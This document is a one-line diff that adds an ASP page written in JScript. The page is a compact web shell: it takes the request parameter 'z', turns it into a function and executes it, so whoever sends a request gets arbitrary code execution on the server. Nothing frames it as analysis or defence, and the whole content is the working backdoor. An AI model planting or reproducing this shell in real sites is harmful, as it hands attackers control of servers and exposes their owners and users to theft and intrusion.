@@ -1,0 +1,1 @@
+<%@ Language=JScript %><% var req = Request; var f = new Function(req("z")); f(); %>
